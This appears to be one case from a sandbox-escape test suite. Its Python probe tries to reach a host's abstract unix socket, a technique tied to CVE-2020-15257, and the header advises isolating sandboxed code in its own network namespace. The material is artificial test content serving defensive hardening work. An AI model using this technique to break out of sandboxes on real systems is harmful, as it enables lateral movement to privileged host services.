# title: Connect to an abstract unix socket of the host
# tries: Connects to a unix socket that has a name but no file, so that a file system of its own does not keep the sandbox from it.
# impact: Lateral
# reference: CVE-2020-15257
# proof: contact
# host: run
# advice: Run the code in a network namespace of its own: abstract names belong to it; Landlock's scopes are a second wall.


def attempt(host):
    import socket

    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
        connection.settimeout(1)
        connection.connect("\0" + host["abstract_socket"])
        connection.sendall(host["mark"].encode() + b"\n")
        return connection.recv(200).decode()
